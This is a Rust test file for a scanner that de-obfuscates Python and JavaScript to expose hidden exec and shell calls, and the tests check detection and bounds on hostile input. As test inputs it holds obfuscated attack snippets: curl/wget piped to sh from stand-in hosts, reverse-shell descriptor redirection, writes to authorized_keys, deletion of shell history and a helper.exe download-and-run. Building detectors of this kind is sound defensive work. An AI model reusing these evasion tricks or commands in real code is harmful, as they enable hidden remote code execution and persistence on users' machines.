//! The evaluator on what attackers write and on what ordinary code writes, and on hostile input.

use super::*;

/// Parses without the scan's time cap: a loaded test machine must not turn a bound test into a skip.
fn parse(grammar: Grammar, text: &str) -> Result<tree_sitter::Tree, ()> {
    let mut parser = tree_sitter::Parser::new();
    parser.set_language(&grammar.ts_language()).unwrap();
    parser.parse(text, None).ok_or(())
}

fn renditions(grammar: Grammar, text: &str) -> Vec<String> {
    let tree = parse(grammar, text).unwrap();
    evaluate_tree(tree.root_node(), text, grammar)
        .renditions
        .into_iter()
        .map(|r| r.code)
        .collect()
}

pub(super) fn python(text: &str) -> Vec<String> {
    renditions(Grammar::Python, text)
}

pub(super) fn javascript(text: &str) -> Vec<String> {
    renditions(Grammar::Javascript, text)
}

#[test]
fn a_path_in_a_variable_is_written_at_the_call() {
    let found = python("import os\nak = os.path.expanduser(\"~/.ssh/authorized_keys\")\nwith open(ak, \"a\") as f:\n    f.write(k)\n");
    assert_eq!(
        found,
        [
            "open(\"~/.ssh/authorized_keys\", \"a\")",
            "open(\"~/.ssh/authorized_keys\", \"a\").write(k)"
        ]
    );
}

#[test]
fn loops_over_literal_tuples_are_walked_per_item() {
    let found = python("import os\nfor h in (\"~/.bash_history\", \"~/.zsh_history\"):\n    os.remove(os.path.expanduser(h))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n");
    assert_eq!(
        found,
        [
            "os.remove(\"~/.bash_history\")",
            "os.remove(\"~/.zsh_history\")",
            "os.dup2(s.fileno(), 0)",
            "os.dup2(s.fileno(), 1)",
            "os.dup2(s.fileno(), 2)",
        ]
    );
}

#[test]
fn python_string_building_resolves() {
    let found = python(concat!(
        "host = '.'.join(map(str, [203, 0, 113, 7]))\n",
        "s.connect((host, 4444))\n",
        "n = ''.join(chr(c - 3) for c in [104, 123, 104, 102])\n",
        "getattr(__import__('bu' + 'iltins'), n)(p)\n",
        "getattr(__import__('os'), 'metsys'[::-1])('id')\n",
        "m = ''.join(reversed('ssecorpbus'))\n",
        "__import__(m).call('%s -c %s' % ('sh', 'x'))\n",
        "os.system(f\"{'cu'}rl {'{}'.format('x')}\")\n",
        "exec(bytes([112, 114, 105, 110, 116]).decode())\n",
    ));
    assert_eq!(
        found,
        [
            "s.connect((\"203.0.113.7\", 4444))",
            "exec(p)",
            "os.system('id')",
            "subprocess.call(\"sh -c x\")",
            "os.system(\"curl x\")",
            "exec(\"print\")",
            "print",
        ]
    );
}

#[test]
fn hidden_exec_targets_are_named() {
    let text = "n = ''.join(map(chr, [101, 120, 101, 99]))\ngetattr(__builtins__, n)(p)\n";
    let tree = parse(Grammar::Python, text).unwrap();
    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
    assert_eq!(
        resolved.renditions[0].hidden_target.as_deref(),
        Some("exec")
    );
}

#[test]
fn javascript_string_building_resolves() {
    let found = javascript(concat!(
        "const cp = require('child' + '_process');\n",
        "cp['ex' + 'ec']('id');\n",
        "const r = global['req' + 'uire'];\n",
        "r(`child_${'process'}`)[String.fromCharCode(101, 120, 101, 99)]('x');\n",
        "const u = 'lave'.split('').reverse().join('');\n",
        "globalThis[u]('\\x63ode');\n",
        "for (const fd of [0, 1]) { fs.closeSync(fd); }\n",
    ));
    assert_eq!(
        found,
        [
            "require(\"child_process\")",
            "require(\"child_process\").exec('id')",
            "require(\"child_process\").exec('x')",
            "eval(\"code\")",
            "code",
            "fs.closeSync(0)",
            "fs.closeSync(1)",
        ]
    );
}

#[test]
fn ordinary_code_renders_nothing() {
    assert!(python(concat!(
        "import os\nimport numpy as np\nfrom subprocess import run\n",
        "run(['ls', '-l'])\nnp.array([1, 2])\nopen('x.txt', 'w')\n",
        "path = os.path.join(base, 'x')\nopen(path)\n",
        "getattr(obj, name)\nfor item in items:\n    print(item)\n",
    ))
    .is_empty());
    assert!(javascript(concat!(
        "const fs = require('fs');\nconst { exec } = require('child_process');\n",
        "fs.readFileSync('a');\nexec(cmd);\nconsole.log('hi');\nfoo(bar, 'x', 1);\n",
    ))
    .is_empty());
}

#[test]
fn deep_expressions_stop_at_the_depth_bound() {
    let deep = format!(
        "x = {}1{}\nopen(x)\n",
        "(".repeat(10_000),
        ")".repeat(10_000)
    );
    let _ = python(&deep);
    let chain = format!("x = 'a'{}\nopen(x)\n", " + 'a'".repeat(10_000));
    let _ = python(&chain);
    let js = format!(
        "const x = {}'a'{};\nf(x);\n",
        "[".repeat(10_000),
        "]".repeat(10_000)
    );
    let _ = javascript(&js);
}

#[test]
fn a_megabyte_string_array_is_bounded() {
    let items: Vec<String> = (0..60_000).map(|i| format!("'item{i:010}'")).collect();
    let text = format!(
        "a = [{}]\nopen(''.join(a))\nfor x in a:\n    open(x)\n",
        items.join(", ")
    );
    assert!(text.len() > 1_000_000);
    let start = std::time::Instant::now();
    let found = python(&text);
    assert!(start.elapsed().as_secs() < 20);
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn alias_cycles_end() {
    let found = python("a = b\nb = a\na = b\nopen(a)\n");
    assert!(found.is_empty());
    let found = javascript("let a = b; b = a; a = b; a(a);\n");
    assert!(found.is_empty());
}

#[test]
fn huge_repetition_is_refused() {
    let found = python("x = 'a' * 10**9\nopen(x)\ny = 'ab' * 99999999999\nopen(y)\n");
    assert!(found.is_empty());
}

#[test]
fn names_from_literal_loops_are_not_hidden() {
    let text = "import subprocess\nfor name in (\"run\", \"call\"):\n    getattr(subprocess, name)(cmd)\nfn = 'system'\ngetattr(__import__('os'), fn)(x)\n";
    let tree = parse(Grammar::Python, text).unwrap();
    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
    assert!(!resolved.renditions.is_empty());
    assert!(
        resolved
            .renditions
            .iter()
            .all(|r| r.hidden_target.is_none()),
        "{:?}",
        resolved.renditions
    );
}

#[test]
fn characters_picked_from_builtin_text_spell_names() {
    let text = concat!(
        "import sys\n",
        "pick = getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0])\n",
        "if sys.platform == ''.join(map(pick, [(((1 << 4) - 1) << 3) - 1, 105, 110, 51, 50])):\n",
        "    exec(''.join(map(pick, [112, 114, 105, 110, 116, 40, 49, 41])))\n",
    );
    let tree = parse(Grammar::Python, text).unwrap();
    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
    let codes: Vec<&str> = resolved
        .renditions
        .iter()
        .map(|r| r.code.as_str())
        .collect();
    assert!(codes.contains(&"print(1)"), "{codes:?}");
    assert_eq!(resolved.builtin_picks.len(), 3);
}

#[test]
fn builtin_text_is_only_known_for_unbound_names() {
    // `oct` rebound by the module is whatever the module made it; slices are not picks.
    let text = "oct = load()\nname = oct.__str__()[1] + str(int)[1:4]\nexec(name)\n";
    let tree = parse(Grammar::Python, text).unwrap();
    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
    assert!(resolved.builtin_picks.is_empty());
    assert!(resolved.renditions.is_empty(), "{:?}", resolved.renditions);
}

#[test]
fn eval_of_an_escaped_name_is_that_function() {
    let text = "_e = eval(\"\\145\\166\\x61\\154\")\n_c = _e(\"\\x63\\157\\x6d\\160\\x69\\154\\x65\")\n_e(_c(payload, \"\", \"exec\"))\n";
    let tree = parse(Grammar::Python, text).unwrap();
    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
    let targets: Vec<&str> = resolved
        .renditions
        .iter()
        .filter_map(|r| r.hidden_target.as_deref())
        .collect();
    assert!(targets.contains(&"eval"), "{:?}", resolved.renditions);
    // A literal expression handed to eval is not a name.
    assert!(python("x = eval(\"1 + 2\")\n").is_empty());
}

#[test]
fn command_lines_handed_to_a_shell_are_shell_payloads() {
    let text = "import os, subprocess\nexe = 'C:/Users/Public/helper.exe'\nos.system('cd C:/ && curl -s https://dl.example.invalid/h -o ' + exe + ' && ' + exe)\nsubprocess.run(['ls', '-l'])\nos.system('clear')\n";
    let tree = parse(Grammar::Python, text).unwrap();
    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
    let shells: Vec<&str> = resolved
        .renditions
        .iter()
        .filter(|r| r.shell)
        .map(|r| r.code.as_str())
        .collect();
    // Each command line on its own (short ones are not), then every line the module runs as one script.
    assert_eq!(
        shells,
        [
            "cd C:/ && curl -s https://dl.example.invalid/h -o C:/Users/Public/helper.exe && C:/Users/Public/helper.exe\n",
            "cd C:/ && curl -s https://dl.example.invalid/h -o C:/Users/Public/helper.exe && C:/Users/Public/helper.exe\nls -l\nclear\n"
        ]
    );
}

#[test]
fn a_shell_command_inside_a_rendered_call_is_still_a_shell_payload() {
    // The outer `print` is rendered whole (its argument resolves through `__import__`), so the walk does
    // not descend into it; the command line it wraps is a payload all the same.
    let text = "print(__import__('subprocess').getoutput('cd /tmp && wget https://dl.example.invalid/s -O s.sh && bash s.sh'))\n";
    let tree = parse(Grammar::Python, text).unwrap();
    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
    let shells: Vec<&str> = resolved
        .renditions
        .iter()
        .filter(|r| r.shell)
        .map(|r| r.code.as_str())
        .collect();
    assert_eq!(
        shells,
        ["cd /tmp && wget https://dl.example.invalid/s -O s.sh && bash s.sh\n"]
    );
    // A lambda in the arguments runs later, if at all: its calls are not the outer call's.
    let text = "print(__import__('os').getcwd(), key=lambda: __import__('os').system('curl -s https://dl.example.invalid/x | sh'))\n";
    let tree = parse(Grammar::Python, text).unwrap();
    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
    assert!(resolved.renditions.iter().all(|r| !r.shell));
}

#[test]
fn an_exec_reached_through_an_alias_is_also_written_with_its_arguments_as_written() {
    let found = python(concat!(
        "import base64\n",
        "show, text, seq = exec, str, tuple\n",
        "show(base64.b64decode(\"cHJpbnQoJ2hpJyk=\"))\n",
    ));
    assert!(
        found.contains(&"exec(base64.b64decode(\"cHJpbnQoJ2hpJyk=\"))".to_string()),
        "{found:?}"
    );
    // Known bytes handed to the aliased exec are code: rescanned as a payload.
    let bytes = python("run = exec\nrun(bytes([112, 114, 105, 110, 116, 40, 41]))\n");
    assert!(bytes.contains(&"print()".to_string()), "{bytes:?}");
    // Written as exec itself, the call is already what the rules read: nothing is added.
    let plain = python("import base64\nexec(base64.b64decode(blob))\n");
    assert!(plain.is_empty(), "{plain:?}");
    // An alias of something that is not an exec sink is not re-written as one.
    let other = python("show = print\nshow(base64.b64decode(blob))\n");
    assert!(other.iter().all(|r| !r.starts_with("exec")), "{other:?}");
}

#[test]
fn an_argument_vector_alone_is_not_a_shell_payload() {
    // One program with its arguments is read where it is written; it joins the module's script only.
    let text = "import subprocess\nsubprocess.run(['gh', 'auth', 'token', '--hostname', 'example.invalid'])\n";
    let tree = parse(Grammar::Python, text).unwrap();
    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
    assert!(resolved.renditions.iter().all(|r| !r.shell));
}

#[test]
fn members_of_object_literals_and_assigned_members_read_back() {
    let found = javascript(concat!(
        "const { exec } = require('child_process');\n",
        "const cfg = { host: '203.0.113.' + 7, 'pipe': ' | sh' };\n",
        "cfg.cmd = 'curl http://' + cfg.host + '/i';\n",
        "exec(cfg.cmd + cfg['pipe']);\n",
    ));
    assert!(
        found.contains(&"exec(\"curl http://203.0.113.7/i | sh\")".to_string()),
        "{found:?}"
    );
    // A member nothing binds, or one bound to an unknown value, stays as written.
    assert!(javascript(concat!(
        "const { exec } = require('child_process');\n",
        "const opts = { cmd: process.argv[2] };\n",
        "exec(opts.cmd);\nexec(other.cmd);\n",
    ))
    .is_empty());
}

#[test]
fn default_arguments_substitution_ciphers_and_mapped_lambdas_are_seen_through() {
    // A helper whose pieces sit in its defaults: a dict of parts and a computed exec.
    let found = python("PARTS = {\"mod\": \"o\" + \"s\", \"fn\": \"sys\" + \"tem\", \"cmd\": [\"curl -s http://198.51.100.23/i\", \"sh\"]}\ndef _go(table=PARTS):\n    runner = getattr(__import__(table[\"mod\"]), table[\"fn\"])\n    runner(\" | \".join(table[\"cmd\"]))\n_go()\n");
    assert!(
        found
            .iter()
            .any(|c| c == "os.system(\"curl -s http://198.51.100.23/i | sh\")"),
        "{found:?}"
    );
    let found = python("import builtins\nfrom urllib.request import urlopen\ndef _warm(u=\"https://x.example.invalid/w.py\", apply=getattr(builtins, \"ex\" + \"ec\")):\n    apply(urlopen(u).read())\n_warm()\n");
    assert!(
        found
            .iter()
            .any(|c| c.contains("exec(urlopen(\"https://x.example.invalid/w.py\")")),
        "{found:?}"
    );
    // Atbash through str.maketrans over the string module's alphabets.
    let found = python("import string\n_L = string.ascii_lowercase\n_T = str.maketrans(_L, _L[::-1])\nexec('rnklig lh; lh.hbhgvn(\"rw\")'.translate(_T))\n");
    assert!(
        found.iter().any(|c| c == "import os; os.system(\"id\")"),
        "{found:?}"
    );
    // map(lambda n: chr(n - 3), codes).
    let found = python("_V = [104, 123, 104, 102, 43, 42, 108, 103, 42, 44]\nexec(\"\".join(map(lambda n: chr(n - 3), _V)))\n");
    assert!(found.iter().any(|c| c == "exec('id')"), "{found:?}");
    // A default that names nothing known, and a translation table never applied, stay unknown.
    let quiet = python("import importlib\nBACKENDS = {\"json\": \"json\"}\ndef backend(name=\"json\"):\n    return importlib.import_module(BACKENDS[name])\n");
    assert!(quiet.iter().all(|c| !c.contains("system")), "{quiet:?}");
}

#[test]
fn a_runner_handed_to_another_call_is_written_as_called() {
    let found = python(concat!(
        "import os, threading, subprocess\n",
        "def try_call(fn, *args):\n    try:\n        return fn(*args)\n    except Exception:\n        return None\n",
        "CMD = 'curl -fsSL http://203.0.113.7/i.sh | sh'\n",
        "try_call(os.system, CMD)\n",
        "threading.Thread(target=os.system, args=(CMD,), daemon=True).start()\n",
        "pool.submit(subprocess.Popen, ['sh', '-c', CMD])\n",
        "threading.Timer(5, os.system, args=[CMD]).start()\n",
    ));
    let called = "os.system(\"curl -fsSL http://203.0.113.7/i.sh | sh\")";
    assert!(
        found.iter().filter(|r| *r == called).count() >= 3,
        "{found:?}"
    );
    assert!(
        found
            .iter()
            .any(|r| r == "curl -fsSL http://203.0.113.7/i.sh | sh\n"),
        "{found:?}"
    );
    assert!(
        found
            .iter()
            .any(|r| r.starts_with("subprocess.Popen((\"sh\", \"-c\", \"curl")),
        "{found:?}"
    );
}

#[test]
fn ordinary_functions_handed_on_are_left_alone() {
    let found = python(concat!(
        "import json, threading, functools\n",
        "def try_call(fn, *args):\n    return fn(*args)\n",
        "try_call(json.loads, text)\n",
        "threading.Thread(target=poll, args=(url, 60)).start()\n",
        "sorted(items, key=len)\n",
    ));
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn a_command_folded_by_functools_reduce_is_known_at_the_call() {
    let found = python(concat!(
        "import os, operator\n",
        "from functools import reduce\n",
        "bits = ['wget -q', 'O- http://', '198.51.100.3', '/r | sh']\n",
        "os.system(reduce(lambda a, b: a + b, bits))\n",
        "os.popen(reduce(operator.add, ['id', ' -u'], ''))\n",
    ));
    assert!(
        found
            .iter()
            .any(|r| r.contains("\"wget -qO- http://198.51.100.3/r | sh\"")),
        "{found:?}"
    );
    assert!(found.iter().any(|r| r.contains("\"id -u\"")), "{found:?}");
    // A reducer that calls out, or a fold of unknown items, stays unknown.
    let found = python(concat!(
        "import os\n",
        "from functools import reduce\n",
        "os.system(reduce(lambda a, b: a + b + load(), ['i', 'd']))\n",
        "os.system(reduce(lambda a, b: a + b, read_parts()))\n",
    ));
    assert!(!found.iter().any(|r| r.contains("\"id\"")), "{found:?}");
}

#[test]
fn javascript_map_entries_and_object_getters_are_read_where_used() {
    let found = javascript(concat!(
        "const cp = require('child_process');\n",
        "const ops = new Map([['log', console.log], ['run', cp.execSync]]);\n",
        "ops.get('run')('wget -qO- http://198.51.100.5/m | sh');\n",
        "const kit = { get go() { return require('child_' + 'process').exec; }, get line() { return ['id', '-u'].join(' '); } };\n",
        "kit.go(kit.line);\n",
    ));
    assert!(
        found.iter().any(
            |r| r.contains("execSync(\"wget -qO- http://198.51.100.5/m | sh\")")
                || r.contains("execSync('wget -qO- http://198.51.100.5/m | sh')")
        ),
        "{found:?}"
    );
    assert!(
        found.iter().any(|r| r.contains(".exec(\"id -u\")")),
        "{found:?}"
    );
    // A map with computed entries, a missing key and a getter with statements stay unknown.
    let found = javascript(concat!(
        "const cp = require('child_process');\n",
        "const ops = new Map(load());\n",
        "ops.get('run')('wget -qO- http://198.51.100.5/m | sh');\n",
        "const two = new Map([['log', console.log]]);\n",
        "two.get('run')('wget -qO- http://198.51.100.5/n | sh');\n",
        "const kit = { get go() { audit(); return cp.exec; } };\n",
        "kit.go('wget -qO- http://198.51.100.5/k | sh');\n",
    ));
    assert!(!found.iter().any(|r| r.contains("wget")), "{found:?}");
}

#[test]
fn member_functions_es_imports_and_create_require_are_read_where_called() {
    let found = javascript(concat!(
        "import * as cp from 'child_process';\n",
        "import { createRequire } from 'node:module';\n",
        "const t = {};\n",
        "t.decode = (i) => ['exe~cSync', 'wg~et -qO- http://198.51.100.5/m | sh'][i].split('~').join('');\n",
        "cp[t.decode(0)](t.decode(1));\n",
        "const req = createRequire(import.meta.url);\n",
        "req('child_' + 'process')[t.decode(0)]('id');\n",
    ));
    assert!(
        found
            .iter()
            .any(|r| r.contains("execSync(\"wget -qO- http://198.51.100.5/m | sh\")")),
        "{found:?}"
    );
    assert!(
        found
            .iter()
            .any(|r| r.contains("require(\"child_process\").execSync('id')")
                || r.contains("require(\"child_process\").execSync(\"id\")")),
        "{found:?}"
    );
    // A member function assigned twice, or reassigned to something unknown, is not followed.
    let found = javascript(concat!(
        "const cp = require('child_process');\n",
        "const t = {};\n",
        "t.decode = (i) => ['execSync', 'wget -qO- http://198.51.100.5/m | sh'][i];\n",
        "t.decode = load();\n",
        "cp.exec(t.decode(1));\n",
    ));
    assert!(!found.iter().any(|r| r.contains("wget")), "{found:?}");
}

#[test]
fn a_lambda_bound_to_a_name_is_a_helper() {
    let found = python(concat!(
        "import os\n",
        "d = lambda i: ['sy~stem', 'cu~rl -s http://198.51.100.5/k | sh'][i].replace('~', '')\n",
        "getattr(os, d(0))(d(1))\n",
    ));
    assert!(
        found
            .iter()
            .any(|r| r.contains("system(\"curl -s http://198.51.100.5/k | sh\")")),
        "{found:?}"
    );
    let found = python(concat!(
        "import os\n",
        "d = lambda i: ['system', 'curl -s http://198.51.100.5/k | sh'][i]\n",
        "d = lambda i: 'ls'\n",
        "getattr(os, 'system')(d(1))\n",
    ));
    assert!(!found.iter().any(|r| r.contains("curl")), "{found:?}");
}

#[test]
fn the_module_loader_under_other_names_loads_as_require() {
    for loader in [
        "module.constructor._load",
        "process.mainModule.require",
        "module.require",
    ] {
        let text = format!(
            "const cp = {loader}('child_' + 'process');\ncp['ex' + 'ec']('wget -qO- http://198.51.100.5/m | sh');\n"
        );
        let found = javascript(&text);
        assert!(
            found
                .iter()
                .any(|r| r.contains("require(\"child_process\").exec(")),
            "{loader}: {found:?}"
        );
    }
    // A loader handed a path it cannot read stays unknown.
    let found = javascript("const m = module.constructor._load(pick());\nm['ex' + 'ec']('ls');\n");
    assert!(
        !found.iter().any(|r| r.contains("child_process")),
        "{found:?}"
    );
}

#[test]
fn a_dotted_target_cut_by_rsplit_or_partition_resolves() {
    let found = python(concat!(
        "import importlib\n",
        "TARGET = 'os.system'\n",
        "module_name, func_name = TARGET.rsplit('.', 1)\n",
        "getattr(importlib.import_module(module_name), func_name)('id')\n",
        "mod, _, fn = 'subprocess.getoutput'.partition('.')\n",
        "getattr(__import__(mod), fn)('uname -a')\n",
    ));
    assert!(found.iter().any(|r| r == "os.system('id')"), "{found:?}");
    assert!(
        found
            .iter()
            .any(|r| r == "subprocess.getoutput('uname -a')"),
        "{found:?}"
    );
    // A version string split for its parts names no function.
    let quiet = python("import importlib\nmajor, minor = '3.11'.split('.', 1)\nprint(getattr(importlib.import_module('sys'), 'version'))\n");
    assert!(!quiet.iter().any(|r| r.contains("system")), "{quiet:?}");
}

#[test]
fn a_handler_picked_by_a_forwarded_key_is_the_function_bound_under_it() {
    let found = javascript(concat!(
        "const cp = require('child_process');\n",
        "const handlers = { log: console.log, run: cp.exec };\n",
        "const plan = [['log', 'starting'], ['run', 'id -u']];\n",
        "plan.forEach(([k, v]) => handlers[k](v));\n",
    ));
    assert!(
        found
            .iter()
            .any(|r| r == "require(\"child_process\").exec(\"id -u\")"),
        "{found:?}"
    );
    // Formatters picked the same way run nothing.
    let quiet = javascript(concat!(
        "const fmt = { upper: (s) => s.toUpperCase(), lower: (s) => s.toLowerCase() };\n",
        "[['upper', 'a'], ['lower', 'B']].forEach(([k, v]) => console.log(fmt[k](v)));\n",
    ));
    assert!(!quiet.iter().any(|r| r.contains("exec")), "{quiet:?}");
}

#[test]
fn a_module_namespace_by_key_and_array_holes_resolve() {
    let found = python(concat!(
        "import os, subprocess\n",
        "vars(subprocess)['get' + 'output']('uname -a')\n",
        "os.__dict__['sys' + 'tem']('id')\n",
    ));
    assert!(
        found
            .iter()
            .any(|r| r == "subprocess.getoutput('uname -a')"),
        "{found:?}"
    );
    assert!(found.iter().any(|r| r == "os.system('id')"), "{found:?}");
    let holes = javascript("const { exec } = require('child_process');\nconst [, , line] = ['v', '2', 'id -u'];\nexec(line);\n");
    assert!(holes.iter().any(|r| r == "exec(\"id -u\")"), "{holes:?}");
    // A rest element leaves the positions unknown.
    let rest = javascript("const { exec } = require('child_process');\nconst [first, ...others] = ['id -u', 'x'];\nexec(others);\n");
    assert!(!rest.iter().any(|r| r.contains("id -u")), "{rest:?}");
}

#[test]
fn a_bound_function_an_instance_getter_and_an_object_method_resolve() {
    let bound = javascript(concat!(
        "const cp = require('child_process');\n",
        "const sh = cp.execSync.bind(cp);\n",
        "sh('id -u');\n",
    ));
    assert!(
        bound
            .iter()
            .any(|r| r.starts_with("require(\"child_process\").execSync(") && r.contains("id -u")),
        "{bound:?}"
    );
    // Bound leading arguments would come before the call's own: unknown.
    let leading = javascript(concat!(
        "const cp = require('child_process');\n",
        "const git = cp.execFileSync.bind(cp, 'git');\n",
        "git(['status']);\n",
    ));
    assert!(
        !leading.iter().any(|r| r.contains("execFileSync(")),
        "{leading:?}"
    );
    let getter = javascript(concat!(
        "class Tools {\n  get shell() { return require('child_process').execSync; }\n}\n",
        "const t = new Tools();\n",
        "t.shell('id -u');\n",
    ));
    assert!(
        getter
            .iter()
            .any(|r| r.starts_with("require(\"child_process\").execSync(") && r.contains("id -u")),
        "{getter:?}"
    );
    let method = javascript(concat!(
        "const cp = require('child_process');\n",
        "const shell = {\n  quiet(line) { return cp.execSync(line, { stdio: 'ignore' }); },\n};\n",
        "shell.quiet('id -u');\n",
    ));
    assert!(
        method.iter().any(|r| r.contains("execSync(\"id -u\"")),
        "{method:?}"
    );
    // A getter that returns a module for reading runs nothing.
    let lazy = javascript(concat!(
        "class Paths {\n  get fs() { return require('fs'); }\n}\n",
        "const p = new Paths();\n",
        "p.fs.existsSync('a.txt');\n",
    ));
    assert!(!lazy.iter().any(|r| r.contains("exec")), "{lazy:?}");
}
